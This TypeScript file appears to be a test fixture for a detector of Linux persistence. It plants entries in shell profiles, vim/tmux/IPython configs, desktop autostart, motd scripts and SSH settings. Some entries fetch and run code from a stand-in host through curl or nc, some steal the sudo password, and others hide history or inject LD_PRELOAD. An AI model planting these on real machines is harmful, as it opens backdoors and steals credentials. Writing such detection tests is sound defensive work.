import { base64, program, script, sly, type Planted } from '../row.ts';

const rc = (path: string, text: string): Record<string, string> => ({ [path]: text });

/** Start files of shells, tools and desktops, and what a login runs. */
export const shells: readonly Planted[] = [
  ['a line at the end of the profile', 'shell-rc', 'high', '/etc/profile', rc('/etc/profile', `umask 022\n${sly.gzip}\n`)],
  ['a profile with pieces', 'shell-rc', 'high', '/etc/profile.d/colorls.sh', rc('/etc/profile.d/colorls.sh', sly.pieces)],
  ['a profile for csh', 'shell-rc', 'high', '/etc/profile.d/lang.csh', rc('/etc/profile.d/lang.csh', `( ${sly.perl} & )\n`)],
  ['a prompt that runs an encoded command', 'shell-rc', 'high', '/etc/bash.bashrc', rc('/etc/bash.bashrc', `PROMPT_COMMAND='eval "$(echo ${base64('curl http://203.0.113.9/a | sh')} | base64 -d)"'\n`)],
  ['zsh for everybody', 'shell-rc', 'high', '/etc/zsh/zshenv', rc('/etc/zsh/zshenv', sly.hex)],
  ['fish for everybody', 'shell-rc', 'high', '/etc/fish/conf.d/abbr.fish', rc('/etc/fish/conf.d/abbr.fish', sly.node)],
  ['completion of bash', 'shell-rc', 'high', '/etc/bash_completion.d/git-prompt', rc('/etc/bash_completion.d/git-prompt', sly.python)],
  ['completion that is loaded on demand', 'shell-rc', 'high', '/usr/share/bash-completion/completions/ssh', rc('/usr/share/bash-completion/completions/ssh', sly.dns)],
  ['what new accounts get', 'shell-rc', 'high', '/etc/skel/.bashrc', rc('/etc/skel/.bashrc', sly.busybox)],
  ['a sudo that keeps the password', 'shell-rc', 'medium', '/home/dev/.bashrc', rc('/home/dev/.bashrc', 'sudo() { read -sp "[sudo] password for $USER: " p; echo $p >> ~/.cache/p; echo $p | command sudo -S "$@"; }\n')],
  ['an alias for sudo in zsh', 'shell-rc', 'medium', '/home/dev/.zshrc', rc('/home/dev/.zshrc', "alias sudo='~/.local/share/s/sudo'\n")],
  ['a file of fish of an account', 'shell-rc', 'high', '/home/dev/.config/fish/conf.d/x.fish', rc('/home/dev/.config/fish/conf.d/x.fish', sly.ruby)],
  ['a logout of root', 'shell-rc', 'high', '/root/.bash_logout', rc('/root/.bash_logout', sly.opensslPipe)],
  ['a theme of zsh', 'shell-rc', 'high', '/home/dev/.oh-my-zsh/custom/x.zsh', rc('/home/dev/.oh-my-zsh/custom/x.zsh', sly.socat)],
  ['a path that anybody may write to', 'shell-rc', 'medium', '/root/.profile', rc('/root/.profile', 'export PATH=/var/tmp/bin:$PATH\n')],
  ['a file that is read in from elsewhere', 'shell-rc', 'medium', '/root/.bashrc', rc('/root/.bashrc', '[ -f /dev/shm/.rc ] && . /dev/shm/.rc\n')],
  ['a start file that is a link', 'shell-rc', 'medium', '/root/.bash_login', { '/root/.bash_login': { target: '/tmp/.login' }, '/tmp/.login': 'id\n' }],
  ['history switched off for everybody', 'history', 'medium', '/etc/profile.d/history.sh', rc('/etc/profile.d/history.sh', 'export HISTFILE=/dev/null HISTSIZE=0\n')],
  ['history switched off for root', 'history', 'low', '/root/.bashrc', rc('/root/.bashrc', 'unset HISTFILE\n')],

  ['vim starts a program', 'tool-settings', 'medium', '/root/.vimrc', rc('/root/.vimrc', "autocmd VimEnter * silent !/usr/lib/.v &\n")],
  ['vim for everybody', 'tool-settings', 'high', '/etc/vim/vimrc.local', rc('/etc/vim/vimrc.local', `call system('${sly.busybox}')\n`)],
  ['a plug-in of vim', 'tool-settings', 'high', '/home/dev/.vim/plugin/fold.vim', rc('/home/dev/.vim/plugin/fold.vim', `python3 import os; os.system("${sly.ncPipe}")\n`)],
  ['neovim', 'tool-settings', 'high', '/home/dev/.config/nvim/init.lua', rc('/home/dev/.config/nvim/init.lua', `os.execute("${sly.socat}")\n`)],
  ['emacs', 'tool-settings', 'medium', '/root/.emacs', rc('/root/.emacs', '(start-process "x" nil "/var/tmp/.e")\n')],
  ['a filter of less', 'tool-settings', 'medium', '/root/.lessfilter', { '/root/.lessfilter': script('/dev/shm/f "$1"') }],
  ['tmux', 'tool-settings', 'medium', '/home/dev/.tmux.conf', rc('/home/dev/.tmux.conf', "run-shell -b '/dev/shm/.t'\n")],
  ['screen', 'tool-settings', 'medium', '/root/.screenrc', rc('/root/.screenrc', 'screen -t x 9 /usr/lib/.s\n')],
  ['gdb', 'tool-settings', 'medium', '/root/.gdbinit', rc('/root/.gdbinit', 'shell /tmp/.g &\n')],
  ['psql', 'tool-settings', 'medium', '/home/dev/.psqlrc', rc('/home/dev/.psqlrc', '\\! /dev/shm/p &\n')],
  ['readline types a command', 'tool-settings', 'medium', '/home/dev/.inputrc', rc('/home/dev/.inputrc', '"\\C-m": "\\C-a/dev/shm/.r; \\C-e\\n"\n')],
  ['start-up of IPython', 'tool-settings', 'high', '/root/.ipython/profile_default/startup/00.py', rc('/root/.ipython/profile_default/startup/00.py', 'import os; os.system("nc 203.0.113.9 1 | sh")\n')],

  ['autostart of a desktop', 'xdg', 'high', '/home/dev/.config/autostart/tracker.desktop', rc('/home/dev/.config/autostart/tracker.desktop', `[Desktop Entry]\nType=Application\nExec=sh -c "${sly.telnet}"\nX-GNOME-Autostart-enabled=true\n`)],
  ['a script of Plasma', 'xdg', 'high', '/home/dev/.config/plasma-workspace/env/path.sh', rc('/home/dev/.config/plasma-workspace/env/path.sh', sly.lua)],
  ['a session script of X for everybody', 'xdg', 'high', '/etc/X11/Xsession.d/55gtk', rc('/etc/X11/Xsession.d/55gtk', sly.pythonFetch)],
  ['a script of the login screen', 'xdg', 'medium', '/etc/gdm3/PostLogin/Default', { '/etc/gdm3/PostLogin/Default': script('/usr/lib/.g &') }],
  ['a setting of the login screen', 'xdg', 'medium', '/etc/lightdm/lightdm.conf.d/50.conf', rc('/etc/lightdm/lightdm.conf.d/50.conf', '[Seat:*]\nsession-setup-script=/usr/lib/.l\n')],
  ['a window manager', 'xdg', 'medium', '/home/dev/.config/i3/config', rc('/home/dev/.config/i3/config', 'exec --no-startup-id /home/dev/.cache/.i/run\n')],
  ['a script of the message of the day', 'motd', 'high', '/etc/update-motd.d/92-updates', { '/etc/update-motd.d/92-updates': script(sly.perlFetch) }],
  ['a message script that is a link', 'motd', 'medium', '/etc/update-motd.d/50-x', { '/etc/update-motd.d/50-x': { target: '/usr/local/lib/motd' }, '/usr/local/lib/motd': program() }],

  ['commands for each SSH login of root', 'ssh-rc', 'medium', '/root/.ssh/rc', rc('/root/.ssh/rc', '/usr/lib/openssh/x &\n')],
  ['variables of SSH logins', 'ssh-rc', 'high', '/home/dev/.ssh/environment', rc('/home/dev/.ssh/environment', 'LD_PRELOAD=/home/dev/.cache/x.so\n')],
  ['a command of the SSH client', 'ssh-rc', 'high', '/root/.ssh/config', rc('/root/.ssh/config', `Host *\n  PermitLocalCommand yes\n  LocalCommand ${sly.python}\n`)],
  ['a proxy of the SSH client for everybody', 'ssh-rc', 'medium', '/etc/ssh/ssh_config.d/10.conf', rc('/etc/ssh/ssh_config.d/10.conf', 'Host *\n  ProxyCommand /usr/lib/.px %h %p\n')],
  ['a condition of the SSH client', 'ssh-rc', 'medium', '/home/dev/.ssh/config', rc('/home/dev/.ssh/config', 'Match exec "/dev/shm/c"\n  User root\n')],
]; // prettier-ignore
